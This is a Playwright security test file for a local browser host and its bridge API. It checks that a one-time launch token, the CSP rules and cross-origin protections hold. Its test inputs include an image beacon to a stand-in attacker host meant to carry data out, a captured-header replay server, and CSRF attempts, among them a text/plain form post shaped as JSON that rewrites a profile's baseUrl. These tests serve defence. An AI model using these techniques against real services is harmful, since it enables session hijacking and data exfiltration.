import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { test, expect } from './fixtures'

/**
 * The browser host as a real browser meets it: the launch secret does not linger and
 * works once, nothing the browser sends to another local port opens the bridge, the
 * app's page cannot reach the service except through the bridge, and a page of another
 * origin cannot drive the bridge, even from this machine.
 */

let attacker: Server
let attackerOrigin = ''
/** Every request the attacker's server received: what a local program on another port learns. */
const captured: IncomingHttpHeaders[] = []

test.beforeAll(async () => {
  attacker = createServer((req, res) => {
    captured.push(req.headers)
    req.resume()
    res.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': req.headers.origin ?? '*', 'Access-Control-Allow-Credentials': 'true' })
    res.end('<!doctype html><title>elsewhere</title><p>another local site</p><img src="/pixel.png">')
  })
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done))
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
})
test.afterAll(() => new Promise<void>((done) => attacker.close(() => done())))

/** One request to the host with exactly these headers (Host set to the host's own); its status. */
function replay(port: number, path: string, method: string, headers: IncomingHttpHeaders): Promise<number> {
  const { host: _host, 'content-length': _length, connection: _connection, ...rest } = headers
  return new Promise((done, reject) => {
    const req = request({ host: '127.0.0.1', port, path, method, headers: { ...rest, host: `127.0.0.1:${port}`, 'content-type': 'application/json' } }, (res) => {
      done(res.statusCode ?? 0)
      res.destroy()
    })
    req.on('error', reject)
    req.end(method === 'POST' ? '{}' : undefined)
  })
}

test('the launch secret leaves the address bar, sets no cookie, and is refused a second time', async ({ page, app, browser }) => {
  const launchUrl = app.host.newLaunchUrl()
  const secret = new URL(launchUrl).searchParams.get('token')!
  await page.goto(`${launchUrl}#/settings`)
  await expect(page.getByRole('heading', { name: 'Settings' })).toBeVisible()
  expect(await page.evaluate(() => `${location.href} ${document.referrer} ${document.cookie}`)).not.toContain(secret)
  expect(await page.context().cookies()).toEqual([])

  // The same link in another browser: the page loads, but the host will not trade the secret again.
  const other = await browser.newContext()
  const second = await other.newPage()
  const exchange = second.waitForResponse((r) => r.url().endsWith('/session'))
  await second.goto(`${launchUrl}#/settings`)
  expect((await exchange).status()).toBe(401)
  const refused = await second.evaluate(async () => (await fetch('/bridge/getAppInfo', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' })).status)
  expect(refused).toBe(401)
  await other.close()
})

test('nothing the browser sends to another local port opens the bridge or the event stream', async ({ open, app }) => {
  captured.length = 0
  const tab = await open('/settings')
  await expect(tab.getByRole('heading', { name: 'Settings' })).toBeVisible()
  // The browser that holds the app asks a server on another loopback port for a page, an image and a credentialed fetch.
  const elsewhere = await tab.context().newPage()
  await elsewhere.goto(`${attackerOrigin}/page`)
  await elsewhere.evaluate((url) => fetch(`${url}/api`, { credentials: 'include' }).then((r) => r.text()), attackerOrigin)
  await expect.poll(() => captured.length).toBeGreaterThanOrEqual(3)

  for (const headers of [...captured]) {
    // As the browser sent them (its Origin and Sec-Fetch-Site give it away), and as a program would send them, without those.
    const { origin: _origin, referer: _referer, ...bare } = Object.fromEntries(Object.entries(headers).filter(([k]) => !k.startsWith('sec-fetch-')))
    for (const path of ['/bridge/getAppInfo', '/bridge/events']) {
      const method = path.endsWith('events') ? 'GET' : 'POST'
      expect([401, 403]).toContain(await replay(app.host.port, path, method, headers))
      expect(await replay(app.host.port, path, method, bare)).toBe(401)
    }
    // Any value it saw, tried as the credential in every place the host reads one.
    for (const value of Object.values(headers).flatMap((v) => String(v).split(/[;,=\s]+/)).filter((v) => v.length >= 16)) {
      expect(await replay(app.host.port, '/bridge/getAppInfo', 'POST', { authorization: `Bearer ${value}` })).toBe(401)
      expect(await replay(app.host.port, `/bridge/events?session=${encodeURIComponent(value)}`, 'GET', {})).toBe(401)
    }
  }
  await elsewhere.close()
})

test('the page cannot call the service itself: its CSP allows connections to its own origin only', async ({ open, app }) => {
  const page = await open('/chains')
  await expect(page.getByRole('table', { name: 'Chains' })).toBeVisible()
  const violations = page.evaluate(
    () =>
      new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
      ),
  )
  const direct = await page.evaluate(
    (url) =>
      fetch(`${url}/rpc/Svc/GetChains`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Access-Key': 'demo-key' }, body: '{}' }).then(
        () => 'reached the service',
        () => 'blocked',
      ),
    app.appCore.simulator.url,
  )
  expect(direct).toBe('blocked')
  expect(await violations).toBe('connect-src')
})

test('the page loads images from its own origin only, so a logo URL a service names cannot carry anything out', async ({ open, app }) => {
  const page = await open('/chains')
  await expect(page.getByRole('table', { name: 'Chains' })).toBeVisible()
  // What the app itself shows comes from its own origin…
  for (const src of await page.locator('img').evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).src)))
    expect(new URL(src).origin).toBe(app.host.origin)
  // …and an image from anywhere else is refused before any request leaves.
  const violation = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true })
        setTimeout(() => resolve('none'), 5_000)
      }),
  )
  await page.evaluate(() => {
    const img = new Image()
    img.src = 'https://attacker.example/pixel.png?stolen=anything'
    document.body.append(img)
  })
  expect(await violation).toBe('img-src')
})

test('a page of another origin on this machine cannot drive the bridge', async ({ open, app }) => {
  // The tab holds the host's session, as a person's browser would.
  const tab = await open('/settings')
  await expect(tab.getByRole('heading', { name: 'Settings' })).toBeVisible()
  const evil = await tab.context().newPage()
  await evil.goto(attackerOrigin)
  const bridge = `${app.host.origin}/bridge/saveProfile`
  const body = JSON.stringify({ name: 'pwned', baseUrl: 'https://attacker.example' })
  const json = await evil.evaluate(
    async ({ bridge, body }) => {
      // A "simple" request goes out without asking (its answer is opaque to the page)…
      await fetch(bridge, { method: 'POST', mode: 'no-cors', credentials: 'include', body, headers: { 'Content-Type': 'text/plain' } }).catch(() => undefined)
      // …a JSON one needs a CORS preflight, which the host never grants.
      return fetch(bridge, { method: 'POST', credentials: 'include', body, headers: { 'Content-Type': 'application/json' } }).then(
        (r) => `answered ${r.status}`,
        () => 'blocked',
      )
    },
    { bridge, body },
  )
  expect(json).toBe('blocked')
  // A classic cross-site form post, with a body shaped to parse as JSON.
  await evil.setContent(
    `<form method="post" enctype="text/plain" action="${bridge}"><input name='{"name":"pwned","baseUrl":"https://attacker.example","x":"' value='"}'></form>`,
  )
  const answer = evil.waitForResponse(bridge)
  await evil.locator('form').evaluate((f: HTMLFormElement) => f.submit())
  expect([403, 415]).toContain((await answer).status())
  expect(app.appCore.core.appInfo().profiles.map((p) => p.name)).not.toContain('pwned')
  await evil.close()
})
